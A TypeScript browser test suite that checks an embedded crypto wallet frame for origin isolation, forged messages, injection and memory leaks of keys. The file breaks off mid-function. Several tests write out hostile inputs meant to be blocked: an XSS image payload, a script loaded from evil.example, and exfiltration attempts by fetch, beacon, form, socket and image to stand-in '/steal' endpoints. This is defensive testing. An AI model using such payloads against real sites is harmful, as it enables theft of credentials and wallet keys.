import { formatBase58 } from 'latchkey/services'
import type { BrowserContext, CDPSession, Frame, Page } from 'playwright'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { randomBytes, toHex } from './keys/bytes.ts'
import { addressesOf } from './keys/derive/addressesOf.ts'
import { deriveEvmKey } from './keys/derive/deriveEvmKey.ts'
import { deriveSolanaKey } from './keys/derive/deriveSolanaKey.ts'
import { fromWords, seedOf, toWords } from './keys/derive/words.ts'
import { openTrap, openWalletPages, type WalletPages } from './walletPage.fixture.ts'

let world: WalletPages
beforeAll(async () => {
  world = await openWalletPages()
})
afterAll(() => world?.close())

/** A page of a host, with the host's side of the frame on it. */
async function visit<T>(origin: string, use: (page: Page) => Promise<T>): Promise<T> {
  const context = await world.browser.newContext()
  try {
    return await visitIn(context, origin, use)
  } finally {
    await context.close()
  }
}

async function visitIn<T>(
  context: BrowserContext,
  origin: string,
  use: (page: Page) => Promise<T>,
): Promise<T> {
  const page = await context.newPage()
  try {
    await page.goto(origin)
    return await use(page)
  } finally {
    await page.close()
  }
}

/** Opens the wallet in the page and waits until it answers, or answers why it does not. */
function openWallet(page: Page, projectId = 'shop'): Promise<string> {
  return page.evaluate(
    async ([endpoint, projectId]) => {
      const scope = window as unknown as Host
      scope.openWallet(endpoint, projectId)
      return scope.wallet.request('SYNC_THEME', {}).then(
        () => 'open',
        (error: { code: string }) => error.code,
      )
    },
    [world.wallet, projectId] as const,
  )
}

/** Opens it where the card would show it. */
async function showWallet(page: Page): Promise<void> {
  await openWallet(page)
  await page.evaluate(() => {
    const [place, iframe] = [document.querySelector('div'), document.querySelector('iframe')]
    if (place) Object.assign(place.style, { insetBlock: '0', blockSize: '700px' })
    if (iframe) iframe.style.visibility = 'visible'
  })
}

/** The texts in the memory of a page. */
async function remember(session: CDPSession): Promise<string> {
  let text = ''
  session.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => {
    text += chunk
  })
  await session.send('HeapProfiler.takeHeapSnapshot', { reportProgress: false })
  return text
}

/** Makes a page remember each byte array that its code makes, for as long as something else refers to it. */
function recordArrays(): void {
  const plain = Uint8Array
  const made: WeakRef<Uint8Array>[] = []
  const recording: typeof Uint8Array = new Proxy(plain, {
    construct(target, args, newTarget) {
      const array: Uint8Array = Reflect.construct(target, args, newTarget === recording ? target : newTarget)
      made.push(new WeakRef(array))
      return array
    },
  })
  globalThis.Uint8Array = recording
  // What `slice` and `map` copy with.
  plain.prototype.constructor = recording
  const toText = (array: Uint8Array) =>
    Array.from(new plain(array.buffer), byte => byte.toString(16).padStart(2, '0')).join('')
  const readArrays = () => made.flatMap(each => each.deref() ?? []).map(toText)
  Object.assign(globalThis, { readArrays })
}

/**
 * The bytes of every array that the frame's code made and still holds, as hexadecimal text. A memory snapshot has none of
 * them, and Chromium's `Runtime.queryObjects` finds no byte arrays.
 */
async function readArrays(session: CDPSession, frame: Frame): Promise<string> {
  await session.send('HeapProfiler.collectGarbage')
  return frame.evaluate(() => (globalThis as unknown as { readArrays(): string[] }).readArrays().join(' '))
}

/** A passkey's device of software, whose person always says yes. */
const authenticator = {
  protocol: 'ctap2',
  ctap2Version: 'ctap2_1',
  transport: 'internal',
  hasResidentKey: true,
  hasUserVerification: true,
  hasPrf: true,
  isUserVerified: true,
  automaticPresenceSimulation: true,
} as const

interface Host {
  openWallet(endpoint: string, projectId: string): void
  readonly wallet: {
    readonly state: string
    readonly dropped: number
    whenReady(): Promise<void>
    request(name: string, payload: unknown): Promise<unknown>
  }
  readonly told: unknown[]
}

function walletFrame(page: Page): Frame {
  const frame = page.frames().find(each => each.url().startsWith(world.wallet))
  if (!frame) throw new Error(`no wallet among ${page.frames().map(each => each.url())}`)
  return frame
}

test('a listed page opens the wallet with no more permissions and loads than it needs (T14, T17)', () =>
  visit(world.origin('host'), async page => {
    const asked: string[] = []
    page.on('request', request => asked.push(request.url()))
    expect(await openWallet(page)).toBe('open')
    await page.evaluate(() => (window as unknown as Host).wallet.whenReady())
    expect(await page.evaluate(() => (window as unknown as Host).wallet.state)).toBe('ready')
    // SPEC §2 "The email-login frame".
    expect(
      await page.locator('iframe#w3m-iframe').evaluate(iframe => {
        const { position, visibility, borderStyle, zIndex } = getComputedStyle(iframe)
        return { position, visibility, borderStyle, zIndex }
      }),
    ).toEqual({ position: 'fixed', visibility: 'hidden', borderStyle: 'none', zIndex: '2147483647' })
    expect(asked.filter(url => !url.startsWith(world.wallet))).toEqual([])
    const features = await walletFrame(page).evaluate(() => {
      const policy = (document as unknown as { featurePolicy: { allowedFeatures(): string[] } }).featurePolicy
      return policy.allowedFeatures().sort()
    })
    expect(features).toEqual(['clipboard-write', 'publickey-credentials-create', 'publickey-credentials-get'])
  }))

test('answers known requests, and refuses unknown ones and codes typed into a page (C5, T11, T59)', () =>
  visit(world.origin('host'), async page => {
    await openWallet(page)
    const ask = (name: string, payload: unknown) =>
      page.evaluate(
        ([name, payload]) =>
          (window as unknown as Host).wallet.request(name as string, payload).then(
            answer => answer,
            (error: { code: string; message: string }) => [error.code, error.message],
          ),
        [name, payload] as const,
      )
    expect(await ask('SYNC_THEME', { mode: 'dark', variables: { accent: '#ff0000' } })).toEqual({})
    expect(await ask('SYNC_DAPP_DATA', { metadata: { name: 'Fernweh Press' } })).toEqual({})
    for (const name of ['CONNECT_OTP', 'UPDATE_EMAIL_PRIMARY_OTP', 'UPDATE_EMAIL_SECONDARY_OTP'])
      expect(await ask(name, { otp: '12345678' })).toEqual(['ACTION_NOT_ALLOWED', 'Action not allowed'])
    // Without a login there is no visitor to prompt; unlisted methods are refused for every caller (T59).
    expect(await ask('SYNC_DAPP_DATA', { chains: ['eip155:1', 'eip155:10'] })).toEqual({})
    expect(await ask('SWITCH_NETWORK', { chainId: 'eip155:10' })).toEqual({ chainId: 'eip155:10' })
    expect(await ask('GET_CHAIN_ID', {})).toEqual({ chainId: 'eip155:10' })
    const call = (method: string, params: unknown) =>
      ask('RPC_REQUEST', { chainId: 'eip155:10', method, params })
    expect(await call('eth_chainId', [])).toEqual({ result: '0xa' })
    expect(await call('eth_accounts', [])).toEqual({ result: [] })
    expect(await call('personal_sign', ['0x00', `0x${'1'.repeat(40)}`])).toEqual([
      'NOT_CONNECTED',
      'Not connected',
    ])
    for (const method of ['eth_sign', 'wallet_exportKey', 'constructor'])
      expect(await call(method, [])).toEqual(['RPC_NOT_ALLOWED', 'Requested RPC call is not allowed'])
    expect(await ask('INIT_SMART_ACCOUNT', {})).toMatchObject(['NOT_EMBEDDED', expect.any(String)])
    expect(await ask('SYNC_THEME', { mode: 'sepia' })).toMatchObject(['CONFIG_INVALID', expect.any(String)])
  }))

test('T11: draws no field for a code, a password or recovery words outside a listed page of another site', async () => {
  const typed = 'input, textarea, [contenteditable]'
  // The wallet's own site, although it is listed.
  await visit(world.origin('app.keys'), async page => {
    expect(await openWallet(page)).toBe('APKT005')
    await walletFrame(page).locator('[role=alert]').waitFor()
    expect(await walletFrame(page).locator(typed).count()).toBe(0)
  })
  // At the top level, by itself and as each window that the frame opens, when no frame opened it.
  for (const hash of ['', '#export', '#approve', '#passkey', '#device=x', '#recover'])
    await visit(`${world.wallet}/v1/?projectId=shop${hash}`, async page => {
      await page.locator('[role=alert], h1, h2').first().waitFor()
      expect(await page.locator(typed).count(), hash).toBe(0)
    })
  // A page of another site in between, and one that is not listed: the browser shows nothing of it.
  const nested = `${world.origin('evil')}/frame?of=${encodeURIComponent(`${world.wallet}/v1/?projectId=shop`)}`
  for (const around of [nested, `${world.origin('host')}/frame?of=${encodeURIComponent(nested)}`])
    await visit(around, async page => {
      await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
    })
})

test('T11: a page that may show the wallet can neither read nor fill the field in it', () =>
  visitIn(world.browser.contexts()[0] as BrowserContext, world.origin('host'), async page => {
    await showWallet(page)
    const ask = askerOf(page)
    expect(await ask('CONNECT_EMAIL', { email: 'eve@mail.example' })).toEqual({ action: 'VERIFY_OTP' })
    const shown = ask('SHOW_SCREEN', { screen: 'VERIFY_OTP' })
    await page.frameLocator('#w3m-iframe').getByLabel('6-digit code').waitFor()
    const tried = await page.evaluate(() => {
      const { contentWindow, contentDocument } = document.querySelector('iframe') as HTMLIFrameElement
      const read = (look: () => unknown) => {
        try {
          return look()
        } catch (error) {
          return (error as Error).name
        }
      }
      return [contentDocument, read(() => contentWindow?.document), read(() => contentWindow?.location.href)]
    })
    expect(tried).toEqual([null, 'SecurityError', 'SecurityError'])
    await ask('HIDE_SCREEN')
    expect(await shown).toEqual({ result: 'closed' })
  }))

test('shows nothing of the wallet to another site, a project without a page or an unknown one (T02)', async () => {
  const of = (project: string) => `${world.wallet}/v1/?projectId=${project}`
  await visit(`${world.origin('evil')}/frame?of=${encodeURIComponent(of('shop'))}`, async page => {
    await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
    // Nor does the address of a listed page in the request make it one.
    await page.setExtraHTTPHeaders({ referer: world.origin('host'), origin: world.origin('host') })
    await page.reload()
    await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
    for (const project of ['empty', 'nobody', '', '../shop']) {
      await page.goto(`${world.origin('host')}/frame?of=${encodeURIComponent(of(project))}`)
      await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
    }
  })
})

test("shows nothing of the wallet to a listed page inside another site's page (T06)", () =>
  visit(world.origin('evil'), async page => {
    const inner = `${world.origin('host')}/frame?of=${encodeURIComponent(`${world.wallet}/v1/?projectId=shop`)}`
    await page.goto(`${world.origin('evil')}/frame?of=${encodeURIComponent(inner)}`)
    await expect.poll(() => page.frames().length).toBe(3)
    await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
  }))

test('shows nothing of the wallet to a page without an origin of its own (T05)', () =>
  visit(world.origin('host'), async page => {
    await page.evaluate(wallet => {
      const iframe = document.createElement('iframe')
      iframe.setAttribute('sandbox', 'allow-scripts')
      iframe.srcdoc = `<iframe src="${wallet}/v1/?projectId=shop"></iframe>`
      document.body.append(iframe)
    }, world.wallet)
    await expect.poll(() => page.frames().length).toBe(3)
    await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
  }))

test('refuses to start on the wallet’s own site or origin, and shows why (T18)', async () => {
  await visit(world.origin('app.keys'), async page => {
    expect(await openWallet(page)).toBe('APKT005')
    expect(await walletFrame(page).locator('[role=alert]').textContent()).toMatch(/^APKT005:/)
  })
  await visit(world.origin('host'), async page => {
    const script = await page.evaluate(async () => (await fetch('/host.js')).text())
    const body = `<!doctype html><body><script>${script}</script></body>`
    await page.route(`${world.wallet}/page`, route => route.fulfill({ contentType: 'text/html', body }))
    await page.goto(`${world.wallet}/page`)
    expect(await openWallet(page)).toBe('APKT005')
  })
})

test('ignores forged messages of another site before, during and after the handshake (T01)', () =>
  visit(world.origin('host'), async page => {
    await page.evaluate(evil => {
      const iframe = document.createElement('iframe')
      iframe.src = evil
      document.body.append(iframe)
    }, world.origin('evil'))
    await expect.poll(() => page.frames().length).toBe(2)
    const evil = page.frames()[1] as Frame
    const forge = (times: number) =>
      evil.evaluate(
        ([host, times]) => {
          const names = [
            'FRAME_READY',
            'FRAME_REFUSED',
            'HELLO_SUCCESS',
            'GET_USER_SUCCESS',
            'SESSION',
            'AREA',
          ]
          for (let round = 0; round < times; round++) {
            for (const name of names)
              parent.postMessage(
                {
                  type: `@latchkey-frame/${name}`,
                  payload: { protocol: [1, 1], sdk: 4, isConnected: true, reason: 'origin' },
                },
                host as string,
              )
          }
          return times * names.length
        },
        [world.origin('host'), times] as const,
      )
    // The frame's page is held back, so that the forgeries come first.
    let release = () => {}
    const held = new Promise<void>(resolve => {
      release = resolve
    })
    await page.route(`${world.wallet}/v1/?**`, async route => {
      await held
      await route.continue()
    })
    await page.evaluate(wallet => (window as unknown as Host).openWallet(wallet, 'shop'), world.wallet)
    const sent = await forge(1_000)
    await expect.poll(() => page.evaluate(() => (window as unknown as Host).wallet.dropped)).toBe(sent)
    expect(await page.evaluate(() => (window as unknown as Host).wallet.state)).toBe('loading')
    release()
    await page.evaluate(() => (window as unknown as Host).wallet.whenReady())
    await forge(1_000)
    // And to the wallet itself, which hears the page around it alone, and once.
    await evil.evaluate(wallet => {
      const { port1, port2 } = new MessageChannel()
      ;(window as unknown as { heard: number }).heard = 0
      port1.onmessage = () => (window as unknown as { heard: number }).heard++
      const hello = {
        type: '@latchkey-app/HELLO',
        id: crypto.randomUUID(),
        payload: { protocol: [1, 1], sdk: 4, projectId: 'shop' },
      }
      ;(parent.frames[1] as Window).postMessage(hello, wallet, [port2])
    }, world.wallet)
    expect(await page.evaluate(() => (window as unknown as Host).wallet.request('SYNC_THEME', {}))).toEqual(
      {},
    )
    expect(
      await page.evaluate(() => {
        const { wallet, told } = window as unknown as Host
        return [wallet.state, told]
      }),
    ).toEqual(['ready', []])
    expect(await evil.evaluate(() => (window as unknown as { heard: number }).heard)).toBe(0)
  }))

test("sends nothing of the wallet's to a frame that was navigated elsewhere (T03, T12)", () =>
  visit(world.origin('host'), async page => {
    await openWallet(page)
    const before = world.stolen.length
    const outcome = await page.evaluate(async evil => {
      const { wallet } = window as unknown as Host
      const waiting = wallet
        .request('SHOW_SCREEN', { screen: 'VERIFY_OTP' })
        .catch((error: { code: string }) => error.code)
      const iframe = document.querySelector('iframe') as HTMLIFrameElement
      const loaded = new Promise(resolve => iframe.addEventListener('load', resolve, { once: true }))
      iframe.src = evil
      await loaded
      const later = await wallet
        .request('CONNECT_EMAIL', { email: 'ada@example.com' })
        .catch((error: { code: string }) => error.code)
      return [await waiting, later, wallet.state]
    }, world.origin('evil'))
    expect(outcome.slice(1)).toEqual(['IFRAME_LOAD_FAILED', 'failed'])
    expect(world.stolen.length).toBe(before)
  }))

test('throws on text assigned as markup (T13)', () =>
  visit(world.origin('host'), async page => {
    const reports: string[] = []
    page.on('console', message => {
      if (/Content.Security.Policy|TrustedHTML|violates/i.test(message.text())) reports.push(message.text())
    })
    await openWallet(page)
    const payloads = hostileTexts
    for (const text of payloads) {
      await page.evaluate(async text => {
        const { wallet } = window as unknown as Host
        const metadata = { name: text.slice(0, 200), description: text, url: text, icons: [text] }
        await wallet.request('SYNC_DAPP_DATA', { metadata })
        await wallet.request('SYNC_THEME', {
          variables: { fontFamily: text.slice(0, 300) },
          texts: { title: text },
        })
      }, text)
    }
    const frame = walletFrame(page)
    expect(await frame.evaluate(() => (window as unknown as { pwned?: boolean }).pwned)).toBeUndefined()
    expect(reports).toEqual([])
    const outcomes = await frame.evaluate(async () => {
      // Not in the task of the debugger, to which this policy does not apply.
      await new Promise(resolve => setTimeout(resolve, 0))
      const attempt = (run: () => unknown) => {
        try {
          run()
          return 'ran'
        } catch (error) {
          return (error as Error).name
        }
      }
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown }
      }
      return {
        markup: attempt(() => {
          document.body.innerHTML = '<img src=x onerror="window.pwned=true">'
        }),
        written: attempt(() => document.write('<p>')),
        timer: attempt(() => setTimeout('window.pwned = true', 0)),
        code: attempt(() => new Function('window.pwned = true')()),
        script: attempt(() => {
          document.createElement('script').src = 'https://evil.example/x.js'
        }),
        policy: attempt(() => trustedTypes.createPolicy('mine', {})),
      }
    })
    expect(outcomes).toEqual({
      markup: 'TypeError',
      written: 'TypeError',
      timer: 'TypeError',
      code: 'EvalError',
      script: 'TypeError',
      policy: 'TypeError',
    })
    expect(await frame.evaluate(() => (window as unknown as { pwned?: boolean }).pwned)).toBeUndefined()
  }))

test('injected code can neither exfiltrate nor persist (T14, T16)', () =>
  visit(world.origin('host'), async page => {
    await openWallet(page)
    const trap = await openTrap()
    const before = world.stolen.length
    const outcomes = await walletFrame(page).evaluate(
      async ([evil, port]) => {
        const settle = (work: Promise<unknown>) =>
          work.then(
            () => 'ran',
            error => (error as Error).name,
          )
        const load = (element: HTMLElement) =>
          new Promise(resolve => {
            element.addEventListener('load', () => resolve('loaded'))
            element.addEventListener('error', () => resolve('blocked'))
            document.body.append(element)
          })
        const image = new Image()
        image.src = `${evil}/steal/img`
        const link = Object.assign(document.createElement('link'), {
          rel: 'prefetch',
          href: `${evil}/steal/prefetch`,
        })
        const preload = Object.assign(document.createElement('link'), {
          rel: 'stylesheet',
          href: `${evil}/steal/style`,
        })
        const form = Object.assign(document.createElement('form'), {
          action: `${evil}/steal/form`,
          method: 'get',
          target: '_blank',
        })
        document.body.append(form, link)
        form.submit()
        let socket = 'open'
        try {
          socket = await new Promise(resolve => {
            const made = new WebSocket(`${(evil as string).replace('http', 'ws')}/steal/socket`)
            made.onerror = () => resolve('blocked')
            made.onopen = () => resolve('open')
          })
        } catch {
          socket = 'blocked'
        }
        const media = 'RTCPeerConnection' in window || 'WebTransport' in window
        return {
          fetch: await settle(fetch(`${evil}/steal/fetch`)),
          tcp: await settle(fetch(`http://127.0.0.1:${port}/`)),
          image: await load(image),
          style: await load(preload),
          beacon: navigator.sendBeacon(`${evil}/steal/beacon`) ? 'queued' : 'refused',
          socket,
          media,
          worker: await settle(navigator.serviceWorker.register('/v1/assets/x.js')),
        }
      },
      [world.origin('evil'), trap.port] as const,
    )
    expect(outcomes).toMatchObject({
      fetch: 'TypeError',
      tcp: 'TypeError',
      image: 'blocked',
      style: 'blocked',
      socket: 'blocked',
      media: false,
      worker: 'TypeError',
    })
    // The services are the one place that it reaches.
    const reached = await walletFrame(page).evaluate(async url => (await fetch(url)).status, world.services)
    expect(reached).toBe(200)
    expect(world.stolen.slice(before)).toEqual([])
    expect(trap.visits()).toBe(0)
    trap.close()
  }))

test('neither moves nor names the embedding page (T14, T20)', () =>
  visit(world.origin('host'), async page => {
    await openWallet(page)
    const outcome = await walletFrame(page).evaluate(
      evil => {
        try {
          ;(window.top as Window).location.href = evil
          return 'moved'
        } catch (error) {
          return (error as Error).name
        }
      },
      `${world.origin('evil')}/steal/top`,
    )
    expect(outcome).toBe('SecurityError')
    expect(page.url()).toContain('host.localhost')
    expect(await walletFrame(page).evaluate(() => document.referrer)).toBe(`${world.origin('host')}/`)
  }))

test('stores data for one site, out of reach of the embedding page (T15)', () =>
  // The browser's own profile: one without traces may deny storage to an iframe.
  visitIn(world.browser.contexts()[0] as BrowserContext, world.origin('host'), async page => {
    await openWallet(page)
    const canary = `canary-${Math.random().toString(36).slice(2)}-secret`
    await walletFrame(page).evaluate(async canary => {
      ;(window as unknown as { kept: string }).kept = canary
      await new Promise<void>((resolve, reject) => {
        const request = indexedDB.open('canary', 1)
        request.onupgradeneeded = () => request.result.createObjectStore('kept').put(canary, 'k')
        request.onsuccess = () => resolve()
        request.onerror = () => reject(request.error)
      })
    }, canary)
    const seen = await page.evaluate(async () => {
      const databases = (await indexedDB.databases()).map(({ name }) => name)
      return JSON.stringify([
        { ...localStorage },
        { ...sessionStorage },
        document.cookie,
        databases,
        (window as unknown as Host).told,
      ])
    })
    expect(seen).not.toContain('canary')
    const session = await page.context().newCDPSession(page)
    let heap = ''
    session.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => {
      heap += chunk
    })
    await session.send('HeapProfiler.takeHeapSnapshot', { reportProgress: false })
    expect(heap).toContain('openWallet')
    expect(heap).not.toContain(canary)
  }))

test('logs a visitor in: only the wallet’s own screens take the code, and the next page and another tab know of it (T11, T15, T43, T48)', () =>
  visitIn(world.browser.contexts()[0] as BrowserContext, world.origin('host'), async page => {
    const ann = 'ann@mail.example'
    const ask = (name: string, payload: unknown = {}) =>
      page.evaluate(
        ([name, payload]) => (window as unknown as Host).wallet.request(name as string, payload),
        [name, payload] as const,
      )
    const tab = await page.context().newPage()
    await tab.goto(world.origin('host'))
    await showWallet(tab)
    const showPasskey = () => askerOf(tab)('SHOW_SCREEN', { screen: 'PASSKEY' })
    const tabScreen = tab.frameLocator('#w3m-iframe')
    const passkeyTitle = tabScreen.getByRole('heading', { name: 'Log in with a passkey' })
    const shownInTab = showPasskey()
    await passkeyTitle.waitFor()
    await page.bringToFront()
    await showWallet(page)
    expect(await ask('IS_CONNECTED')).toEqual({ isConnected: false })
    expect(await ask('CONNECT_EMAIL', { email: ann })).toEqual({ action: 'VERIFY_OTP' })
    const shown = ask('SHOW_SCREEN', { screen: 'VERIFY_OTP' })
    const screen = page.frameLocator('#w3m-iframe')
    await screen.getByLabel('6-digit code').fill(await world.mail(ann, /^ {4}(\d{6})$/m))
    // The wallet is there before it is protected.
    await screen.getByRole('heading', { name: 'Protect your wallet' }).waitFor()
    expect(await ask('GET_REMINDER')).toEqual({ reminder: 'none' })
    await screen.getByRole('button', { name: 'Write down a code' }).click()
    await screen.getByLabel('I’ve saved it').check()
    await screen.getByRole('button', { name: 'Continue' }).click()
    expect([await shown, await shownInTab]).toEqual([{ result: 'done' }, { result: 'done' }])
    const user = await ask('GET_USER')
    expect(user).toMatchObject({
      email: ann,
      authProvider: 'email',
      address: expect.stringMatching(/^0x[0-9a-fA-F]{40}$/),
    })
    // No network carries its smart account, so that the plain one is in use whatever is chosen; recovery was set up with it.
    const { address } = user as { address: string }
    expect(user).not.toHaveProperty('preferredAccountType')
    expect(await ask('SET_PREFERRED_ACCOUNT', { type: 'eoa' })).toEqual({ type: 'eoa', address })
    const solana = { type: 'smartAccount', chainId: 'solana:5eykt4UsFv8P8NJdTREpY1vzqKqZKvdp' }
    await expect(ask('SET_PREFERRED_ACCOUNT', solana)).rejects.toThrow('Action not allowed')
    const other = { type: 'smartAccount', chainId: 'eip155:1' }
    expect(await ask('SET_PREFERRED_ACCOUNT', other)).toEqual({ type: 'smartAccount', address })
    const chosen = { ...(user as object), preferredAccountType: 'smartAccount' }
    expect(await ask('GET_SMART_ACCOUNT_ENABLED_NETWORKS')).toEqual({ smartAccountEnabledNetworks: [] })
    expect([await ask('GET_REMINDER'), await ask('PUT_AWAY_REMINDER')]).toEqual([{ reminder: null }, {}])
    const heardInTab = tab.waitForResponse(/\/login\/user\?/)
    await page.reload()
    await openWallet(page)
    expect([await ask('IS_CONNECTED'), await ask('GET_USER')]).toEqual([{ isConnected: true }, chosen])
    await heardInTab
    expect(await askerOf(tab)('IS_CONNECTED')).toEqual({ isConnected: true })
    expect(await ask('SIGN_OUT')).toEqual({})
    expect(await ask('IS_CONNECTED')).toEqual({ isConnected: false })
    const told = () => tab.evaluate(() => (window as unknown as Host).told)
    await expect.poll(told).toContainEqual(['SESSION', { isConnected: false }])
    await tab.bringToFront()
    const shownAgain = showPasskey()
    await passkeyTitle.waitFor()
    await tabScreen.getByRole('button', { name: 'Not now' }).click()
    expect(await shownAgain).toEqual({ result: 'closed' })
    await tab.close()
  }))

test(
  'a passkey creates a wallet and opens it without stored data, in a frame of another site; its key shows at the top level alone, and stays in no memory (T12, T15, T79, T80, §2.9)',
  () =>
    visitIn(world.browser.contexts()[0] as BrowserContext, world.origin('host'), async page => {
      const ask = (name: string, payload: unknown = {}) =>
        page.evaluate(
          ([name, payload]) => (window as unknown as Host).wallet.request(name as string, payload),
          [name, payload] as const,
        )
      await page.addInitScript(recordArrays)
      await showWallet(page)
      const session = await page.context().newCDPSession(walletFrame(page))
      await session.send('WebAuthn.enable')
      await session.send('WebAuthn.addVirtualAuthenticator', {
        options: authenticator,
      })
      const screen = page.frameLocator('#w3m-iframe')
      const shown = ask('SHOW_SCREEN', { screen: 'PASSKEY' })
      await screen.getByRole('button', { name: 'Create a new wallet' }).click()
      await screen.getByRole('button', { name: 'Create wallet' }).click()
      expect(await shown).toEqual({ result: 'done' })
      const user = await ask('GET_USER')
      expect(user).toMatchObject({ email: null, authProvider: 'passkey' })

      await ask('SYNC_DAPP_DATA', { chains: ['eip155:1'] })
      // All of the frame has to be in sight (T08).
      await page.setViewportSize({ width: 900, height: 900 })
      const { address } = user as { address: string }
      const params = ['0x48656c6c6f', address]
      const signing = ask('RPC_REQUEST', { chainId: 'eip155:1', method: 'personal_sign', params })
      const sign = screen.getByRole('button', { name: 'Sign', exact: true })
      // Into the frame first, which has to be in focus (T09).
      await screen.getByRole('heading').click()
      while ((await sign.getAttribute('aria-disabled')) === 'true') await page.waitForTimeout(50)
      await sign.click()
      expect(await signing).toEqual({ result: expect.stringMatching(/^0x[0-9a-f]{130}$/) })
      await page.waitForTimeout(1_000)
      const remembered = {
        wallet: await remember(session),
        page: await remember(await page.context().newCDPSession(page)),
      }
      const frame = walletFrame(page)
      const arrays = await readArrays(session, frame)
      // S10: a key that stays in a byte array is seen, in one of its own and as a part of another.
      const planted = [toHex(randomBytes(32)), toHex(randomBytes(32))]
      await frame.evaluate(keys => {
        const [alone = [], part = []] = keys.map(key =>
          Array.from(key.match(/../g) ?? [], pair => Number.parseInt(pair, 16)),
        )
        const whole = new Uint8Array(4_096)
        whole.set(part, 100)
        Object.assign(globalThis, { planted: [Uint8Array.from(alone), whole.subarray(0, 50)] })
      }, planted)
      const withPlanted = await readArrays(session, frame)
      expect(planted.map(key => withPlanted.includes(key))).toEqual([true, true])
      await frame.evaluate(() => Reflect.deleteProperty(globalThis, 'planted'))
      const without = await readArrays(session, frame)
      expect(planted.map(key => without.includes(key))).toEqual([false, false])

      // T80: the key is shown at the top level alone, to who just used a passkey.
      const settings = ask('SHOW_SCREEN', { screen: 'SETTINGS' })
      await screen.getByRole('button', { name: 'Offline kit and 24 words' }).click()
      await screen.getByRole('button', { name: 'Show with a passkey' }).click()
      const opening = page.context().waitForEvent('page')
      await screen.getByRole('button', { name: 'Open window' }).click()
      const sheet = await opening
      expect(new URL(sheet.url()).origin).toBe(world.wallet)
      await sheet.getByRole('button', { name: 'Show 24 words' }).click()
      await sheet.getByRole('listitem').nth(23).waitFor()
      const words = await sheet.getByRole('listitem').allTextContents()
      const entropy = fromWords(words.map(word => word.replace(/^\d+\. /, '')).join(' '))
      expect(user).toMatchObject({ address: (await addressesOf(entropy)).eip155 })
      // T15, T79: a second after it signed, neither the page's memory nor the wallet's has the key, in any of its forms.
      const seed = await seedOf(entropy)
      const secrets = [entropy, seed, deriveEvmKey(seed), deriveSolanaKey(seed)]
      const forms = secrets.flatMap(secret => [
        toHex(secret),
        formatBase58(secret),
        Buffer.from(secret).toString('base64'),
      ])
      // Not by `toContain`, which would show all of it.
      for (const text of Object.values(remembered))
        expect([toWords(entropy), ...forms].filter(form => text.includes(form)).length).toBe(0)
      expect(secrets.filter(secret => arrays.includes(toHex(secret))).length).toBe(0)
      // Visible content is seen.
      expect(remembered.wallet.includes('Sign a message')).toBe(true)
      expect(remembered.page.includes('openWallet')).toBe(true)
      expect(await page.evaluate(() => JSON.stringify((window as unknown as Host).told))).not.toContain(
        words[3],
      )
      await sheet.close()
      await screen.getByRole('button', { name: 'Back' }).click()
      await screen.getByRole('button', { name: 'Done' }).click()
      await settings
      await ask('SIGN_OUT')
      // As in another browser: the passkey is all that there is.
      await walletFrame(page).evaluate(async () => {
        for (const { name = '' } of await indexedDB.databases()) {
          const database = await new Promise<IDBDatabase>(resolve => {
            const opening = indexedDB.open(name)
            opening.onsuccess = () => resolve(opening.result)
          })
          const stores = [...database.objectStoreNames]
          const clearing = database.transaction(stores, 'readwrite')
          for (const store of stores) clearing.objectStore(store).clear()
          await new Promise(resolve => {
            clearing.oncomplete = resolve
          })
          database.close()
        }
      })
      const again = ask('SHOW_SCREEN', { screen: 'PASSKEY' })
      await screen.getByRole('button', { name: 'Log in with a passkey' }).click()
      // S4: which wallet it is, before it is used.
      await screen.getByRole('heading', { name: 'Is this your wallet?' }).waitFor()
      await screen.getByRole('button', { name: 'Use this wallet' }).click()
      expect(await again).toEqual({ result: 'done' })
      expect(await ask('GET_USER')).toEqual(user)
      await ask('SIGN_OUT')
    }),
  // A busy machine takes its time for the memory of two pages.
  60_000,
)

test('a browser without passkeys in frames creates one in the wallet’s own window, and it opens the wallet in the frame (§2.9)', () =>
  visitIn(world.browser.contexts()[0] as BrowserContext, world.origin('host'), async page => {
    const ask = (name: string, payload: unknown = {}) =>
      page.evaluate(
        ([name, payload]) => (window as unknown as Host).wallet.request(name as string, payload),
        [name, payload] as const,
      )
    await showWallet(page)
    // As Safari does it.
    await walletFrame(page).evaluate(() => {
      navigator.credentials.create = async () => {
        throw new DOMException(
          'The origin of the document is not the same as its ancestors.',
          'NotAllowedError',
        )
      }
    })
    const screen = page.frameLocator('#w3m-iframe')
    const shown = ask('SHOW_SCREEN', { screen: 'PASSKEY' })
    await screen.getByRole('button', { name: 'Create a new wallet' }).click()
    const inWindow = screen.getByRole('button', { name: 'Create it in a window' })
    await inWindow.waitFor()
    // Closed by its person, it was nothing; then it is tried again.
    const closed = await open()
    await closed.close()
    await inWindow.waitFor()
    // One that is loaded anew has lost what it was asked.
    const stale = await open()
    expect(await stale.evaluate(() => window.opener)).toBe(null)
    await Promise.all([stale.waitForEvent('close'), stale.evaluate(() => location.reload()).catch(() => {})])
    await inWindow.waitFor()
    const opened = await open()
    const session = await opened.context().newCDPSession(opened)
    await session.send('WebAuthn.enable')
    await session.send('WebAuthn.addVirtualAuthenticator', { options: authenticator })
    const closing = opened.waitForEvent('close')
    await opened.getByRole('button', { name: 'Create passkey' }).click()
    await closing
    await screen.getByRole('button', { name: 'Create wallet' }).click()
    expect(await shown).toEqual({ result: 'done' })
    expect(await ask('GET_USER')).toMatchObject({ email: null, authProvider: 'passkey' })
    await ask('SIGN_OUT')

    async function open(): Promise<Page> {
      const opening = page.context().waitForEvent('page')
      await inWindow.click()
      const opened = await opening
      expect(new URL(opened.url()).origin).toBe(world.wallet)
      await opened.getByRole('button', { name: 'Create passkey' }).waitFor()
      return opened
    }
  }))

/** What the page may ask of its wallet: the answer, or the code of why there is none. */
function askerOf(page: Page) {
  return (name: string, payload: unknown = {}) =>
    page.evaluate(
      ([name, payload]) =>
